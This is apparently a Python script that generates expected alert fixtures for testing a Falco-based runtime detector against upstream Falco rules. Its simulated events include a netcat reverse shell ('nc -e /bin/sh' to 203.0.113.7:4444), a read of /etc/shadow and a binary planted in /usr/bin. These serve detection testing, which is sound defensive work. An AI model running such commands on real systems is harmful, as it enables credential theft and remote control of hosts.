#!/usr/bin/env python3
"""Writes the expected alert files of this directory from the values derived by
hand in README.md, which are typed in literally below (rule, priority, tags,
event time, rendered message, typed output fields). The script only serialises
them the way Falco prints alerts: JSON keys in byte order, compact separators,
the time prefix of each time format, the suggested container fields. It never
runs edera-guard. Rerun it after changing a derivation: python3 derive_expected.py
"""
import json, os, copy
OUT = os.path.dirname(os.path.abspath(__file__))
os.makedirs(os.path.join(OUT, "options"), exist_ok=True)
BASE = 1772438400000000000
def ts(s, ns): return BASE + s * 10**9 + ns
def hms(t):
    s = (t // 10**9) % 86400
    return "%02d:%02d:%02d.%09d" % (s // 3600, s // 60 % 60, s % 60, t % 10**9)
def iso(t):  # 2026-03-02
    return "2026-03-02T" + hms(t)
HOST_C = {"container.id": "host", "container.name": "host", "container.image.repository": "", "container.image.tag": "", "k8s.pod.name": None, "k8s.ns.name": None}
CID = "3f9a1c0d2b4e"
CONT_C = {"container.id": CID, "container.name": "", "container.image.repository": "", "container.image.tag": "", "k8s.pod.name": None, "k8s.ns.name": None}
def sugg(c):
    na = lambda v: "<NA>" if v is None else v
    return ("container_id=%s container_name=%s container_image_repository=%s container_image_tag=%s k8s_pod_name=%s k8s_ns_name=%s"
            % (c["container.id"], c["container.name"], c["container.image.repository"], c["container.image.tag"], na(c["k8s.pod.name"]), na(c["k8s.ns.name"])))

def alert(rule, prio, tags, t, msg, fields, cont):
    """msg: rendered rule output (without suggested suffix); fields: rule-output fields."""
    f = dict(fields); f.update(cont)
    return {"rule": rule, "priority": prio, "tags": sorted(tags), "t": t, "msg": msg + " " + sugg(cont), "fields": f}

def render(a, iso8601=False, out=True, tags=True, message=False, ofields=True):
    tf = "evt.time.iso8601" if iso8601 else "evt.time"
    prefix = (iso(a["t"]) + "+0000") if iso8601 else hms(a["t"])
    j = {"hostname": "golden", "priority": a["priority"], "rule": a["rule"], "source": "syscall", "time": iso(a["t"]) + "Z"}
    if out: j["output"] = "%s: %s %s" % (prefix, a["priority"], a["msg"])
    if message: j["message"] = a["msg"]
    if ofields:
        f = dict(a["fields"]); f[tf] = a["t"]; j["output_fields"] = f
    if tags: j["tags"] = a["tags"]
    return json.dumps(j, sort_keys=True, separators=(",", ":"), ensure_ascii=False)

def text(a, iso8601=False):
    prefix = (iso(a["t"]) + "+0000") if iso8601 else hms(a["t"])
    return "%s: %s %s" % (prefix, a["priority"], a["msg"])

# ---------------- edera-guard rules ----------------
EG_T = {
 "web": ["edera", "process", "mitre_execution", "T1059"],
 "read": ["edera", "filesystem", "mitre_credential_access", "T1003"],
 "write": ["edera", "filesystem", "mitre_persistence", "T1543"],
 "net": ["edera", "network", "mitre_command_and_control", "T1071"],
 "shell": ["edera", "process", "mitre_execution"],
}
def eg_fields(user, name, pname, cmd, pid, **extra):
    f = {"edera.zone.name": "host", "user.name": user, "proc.name": name, "proc.pname": pname, "proc.cmdline": cmd, "proc.pid": pid}
    f.update(extra); return f

def eg_web_shell():
    return alert("Shell spawned by web server", "Critical", EG_T["web"], ts(1, 123456789),
                 "Shell spawned by a web server (zone=host user=www-data shell=sh parent=nginx cmdline=sh -c id pid=200 exe=/usr/bin/dash)",
                 eg_fields("www-data", "sh", "nginx", "sh -c id", 200, **{"proc.exepath": "/usr/bin/dash"}), HOST_C)
def eg_web_shell_generic():
    return alert("Shell spawned", "Notice", EG_T["shell"], ts(1, 123456789),
                 "Shell spawned (zone=host user=www-data shell=sh parent=nginx cmdline=sh -c id pid=200)",
                 eg_fields("www-data", "sh", "nginx", "sh -c id", 200), HOST_C)
def eg_shadow():
    return alert("Read sensitive file", "Warning", EG_T["read"], ts(2, 250000042),
                 "Sensitive file opened for reading (zone=host user=root file=/etc/shadow process=cat parent=bash cmdline=cat /etc/shadow pid=301)",
                 eg_fields("root", "cat", "bash", "cat /etc/shadow", 301, **{"fd.name": "/etc/shadow"}), HOST_C)
def eg_binwrite():
    return alert("Write below binary directory", "Error", EG_T["write"], ts(3, 300000003),
                 "File below a binary directory opened for writing (zone=host user=root file=/usr/bin/evil process=cp parent=bash cmdline=cp /tmp/.x/evil /usr/bin/evil pid=302)",
                 eg_fields("root", "cp", "bash", "cp /tmp/.x/evil /usr/bin/evil", 302, **{"fd.name": "/usr/bin/evil"}), HOST_C)
def eg_nc():
    return alert("Outbound connection from shell", "Warning", EG_T["net"], ts(4, 400000004),
                 "Outbound connection from a shell session (zone=host user=root connection=10.0.0.5:40312->203.0.113.7:4444 process=nc parent=bash cmdline=nc 203.0.113.7 4444 pid=303)",
                 eg_fields("root", "nc", "bash", "nc 203.0.113.7 4444", 303, **{"fd.name": "10.0.0.5:40312->203.0.113.7:4444"}), HOST_C)
def eg_cont_shell():
    return alert("Shell spawned", "Notice", EG_T["shell"], ts(5, 500000005),
                 "Shell spawned (zone=host user=root shell=bash parent=containerd-shim cmdline=bash pid=410)",
                 eg_fields("root", "bash", "containerd-shim", "bash", 410), CONT_C)
def eg_cont_nc():
    return alert("Outbound connection from shell", "Warning", EG_T["net"], ts(5, 700000007),
                 "Outbound connection from a shell session (zone=host user=root connection=172.17.0.2:39000->203.0.113.7:4444 process=nc parent=bash cmdline=nc -e /bin/sh 203.0.113.7 4444 pid=411)",
                 eg_fields("root", "nc", "bash", "nc -e /bin/sh 203.0.113.7 4444", 411, **{"fd.name": "172.17.0.2:39000->203.0.113.7:4444"}), CONT_C)

EG = {"web_shell": [eg_web_shell()], "shadow_read": [eg_shadow()], "bin_write": [eg_binwrite()],
      "outbound_nc": [eg_nc()], "container": [eg_cont_shell(), eg_cont_nc()], "benign": []}
ORDER = ["web_shell", "shadow_read", "bin_write", "outbound_nc", "container", "benign"]
EG_ALL = [a for s in ORDER for a in EG[s]]

# ---------------- upstream falco_rules.yaml ----------------
def up_fields(**kw):
    return dict(kw)
def up_web_shell():
    msg = ("Shell spawned by untrusted binary | parent_exe=/usr/sbin/nginx parent_exepath=/usr/sbin/nginx pcmdline=nginx -g daemon off; "
           "gparent=nginx ggparent=systemd aname[4]=<NA> aname[5]=<NA> aname[6]=<NA> aname[7]=<NA> evt_type=execve user=www-data user_uid=33 "
           "user_loginuid=-1 process=sh proc_exepath=/usr/bin/dash parent=nginx command=sh -c id terminal=0 exe_flags=EXE_LOWER_LAYER")
    f = {"proc.pexe": "/usr/sbin/nginx", "proc.pexepath": "/usr/sbin/nginx", "proc.pcmdline": "nginx -g daemon off;",
         "proc.aname[2]": "nginx", "proc.aname[3]": "systemd", "proc.aname[4]": None, "proc.aname[5]": None, "proc.aname[6]": None,
         "proc.aname[7]": None, "evt.type": "execve", "user.name": "www-data", "user.uid": 33, "user.loginuid": -1, "proc.name": "sh",
         "proc.exepath": "/usr/bin/dash", "proc.pname": "nginx", "proc.cmdline": "sh -c id", "proc.tty": 0, "evt.arg.flags": "EXE_LOWER_LAYER"}
    return alert("Run shell untrusted", "Notice", ["maturity_stable", "host", "container", "process", "shell", "mitre_execution", "T1059.004"],
                 ts(1, 123456789), msg, f, HOST_C)
def up_shadow():
    msg = ("Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd ggparent=systemd gggparent=<NA> "
           "evt_type=openat user=root user_uid=0 user_loginuid=0 process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=34816")
    f = {"fd.name": "/etc/shadow", "proc.aname[2]": "sshd", "proc.aname[3]": "systemd", "proc.aname[4]": None, "evt.type": "openat",
         "user.name": "root", "user.uid": 0, "user.loginuid": 0, "proc.name": "cat", "proc.exepath": "/usr/bin/cat", "proc.pname": "bash",
         "proc.cmdline": "cat /etc/shadow", "proc.tty": 34816}
    return alert("Read sensitive file untrusted", "Warning", ["maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"],
                 ts(2, 250000042), msg, f, HOST_C)
def up_sandbox_binwrite():
    msg = ("File below a known binary directory opened for writing | file=/usr/bin/evil pcmdline=bash gparent=sshd evt_type=openat user=root "
           "user_uid=0 user_loginuid=0 process=cp proc_exepath=/usr/bin/cp parent=bash command=cp /tmp/.x/evil /usr/bin/evil terminal=34816")
    f = {"fd.name": "/usr/bin/evil", "proc.pcmdline": "bash", "proc.aname[2]": "sshd", "evt.type": "openat", "user.name": "root", "user.uid": 0,
         "user.loginuid": 0, "proc.name": "cp", "proc.exepath": "/usr/bin/cp", "proc.pname": "bash", "proc.cmdline": "cp /tmp/.x/evil /usr/bin/evil",
         "proc.tty": 34816}
    return alert("Write below binary dir", "Error", ["maturity_sandbox", "host", "container", "filesystem", "mitre_persistence", "T1543"],
                 ts(3, 300000003), msg, f, HOST_C)
def up_cont_shell():
    msg = ("A shell was spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash "
           "proc_exepath=/usr/bin/bash parent=containerd-shim command=bash terminal=34817 exe_flags=EXE_LOWER_LAYER")
    f = {"evt.type": "execve", "user.name": "root", "user.uid": 0, "user.loginuid": -1, "proc.name": "bash", "proc.exepath": "/usr/bin/bash",
         "proc.pname": "containerd-shim", "proc.cmdline": "bash", "proc.tty": 34817, "evt.arg.flags": "EXE_LOWER_LAYER"}
    return alert("Terminal shell in container", "Notice", ["maturity_stable", "container", "shell", "mitre_execution", "T1059"],
                 ts(5, 500000005), msg, f, CONT_C)
def up_cont_nc():
    msg = ("Netcat runs inside container that allows remote code execution | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=nc "
           "proc_exepath=/usr/bin/nc.traditional parent=bash command=nc -e /bin/sh 203.0.113.7 4444 terminal=34817 exe_flags=EXE_LOWER_LAYER")
    f = {"evt.type": "execve", "user.name": "root", "user.uid": 0, "user.loginuid": -1, "proc.name": "nc", "proc.exepath": "/usr/bin/nc.traditional",
         "proc.pname": "bash", "proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444", "proc.tty": 34817, "evt.arg.flags": "EXE_LOWER_LAYER"}
    return alert("Netcat Remote Code Execution in Container", "Warning", ["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"],
                 ts(5, 600000006), msg, f, CONT_C)
UP = {"web_shell": [up_web_shell()], "shadow_read": [up_shadow()], "bin_write": [], "outbound_nc": [],
      "container": [up_cont_shell(), up_cont_nc()], "benign": []}
UP_ALL = [a for s in ORDER for a in UP[s]]

def write(name, lines):
    with open(os.path.join(OUT, name), "w") as f:
        for l in lines: f.write(l + "\n")

for s in ORDER:
    write("%s.edera.expected.jsonl" % s, [render(a) for a in EG[s]])
    write("%s.falco.expected.jsonl" % s, [render(a) for a in UP[s]])
write("all.edera.expected.jsonl", [render(a) for a in EG_ALL])
write("all.falco.expected.jsonl", [render(a) for a in UP_ALL])
write("bin_write.falco_sandbox.expected.jsonl", [render(up_sandbox_binwrite())])

# ---------------- option sets on "all" with edera-guard rules ----------------
write("options/text.expected.txt", [text(a) for a in EG_ALL])
write("options/text_iso8601.expected.txt", [text(a, iso8601=True) for a in EG_ALL])
write("options/iso8601.expected.jsonl", [render(a, iso8601=True) for a in EG_ALL])
write("options/no_output_property.expected.jsonl", [render(a, out=False) for a in EG_ALL])
write("options/no_tags_property.expected.jsonl", [render(a, tags=False) for a in EG_ALL])
write("options/message_property.expected.jsonl", [render(a, message=True) for a in EG_ALL])
write("options/no_output_fields_property.expected.jsonl", [render(a, ofields=False) for a in EG_ALL])
rank = {"Emergency":0,"Alert":1,"Critical":2,"Error":3,"Warning":4,"Notice":5,"Informational":6,"Debug":7}
write("options/priority_warning.expected.jsonl", [render(a) for a in EG_ALL if rank[a["priority"]] <= 4])
write("options/priority_error.expected.jsonl", [render(a) for a in EG_ALL if rank[a["priority"]] <= 3])
allm = [eg_web_shell(), eg_web_shell_generic()] + EG_ALL[1:]
write("options/rule_matching_all.expected.jsonl", [render(a) for a in allm])
write("options/disable_tag_filesystem.expected.jsonl", [render(a) for a in EG_ALL if "filesystem" not in a["tags"]])
write("options/enable_tags_network_persistence.expected.jsonl",
      [render(a) for a in EG_ALL if "network" in a["tags"] or "mitre_persistence" in a["tags"]])

# append_output: see README for the entries
PPID = {200: 101, 301: 300, 302: 300, 303: 300, 410: 400, 411: 410}
def appended(a):
    b = copy.deepcopy(a)
    if b["rule"] == "Read sensitive file":
        b["msg"] += " flags=O_RDONLY"; b["fields"]["evt.arg.flags"] = "O_RDONLY"
    if "network" in b["tags"]:
        b["msg"] += " sport=4444"; b["fields"]["fd.sport"] = 4444; b["fields"]["dest"] = "203.0.113.7:4444"
    b["fields"]["proc.ppid"] = PPID[b["fields"]["proc.pid"]]
    return b
write("options/append_output.expected.jsonl", [render(appended(a)) for a in EG_ALL])
write("options/append_output.expected.txt", [text(appended(a)) for a in EG_ALL])

# -p "uid=%user.uid" and -o append_output[].extra_output=uid=%user.uid: appended after the
# suggested fields; adds user.uid (JSON number) to output_fields.
UID = {200: 33, 301: 0, 302: 0, 303: 0, 410: 0, 411: 0}
def with_uid(a):
    b = copy.deepcopy(a)
    uid = UID[b["fields"]["proc.pid"]]
    b["msg"] += " uid=%d" % uid
    b["fields"]["user.uid"] = uid
    return b
write("options/extra_uid.expected.jsonl", [render(with_uid(a)) for a in EG_ALL])
# -D "Shell spawned": both rules whose name contains the substring are disabled.
write("options/disable_rule_substring.expected.jsonl", [render(a) for a in EG_ALL if "Shell spawned" not in a["rule"]])
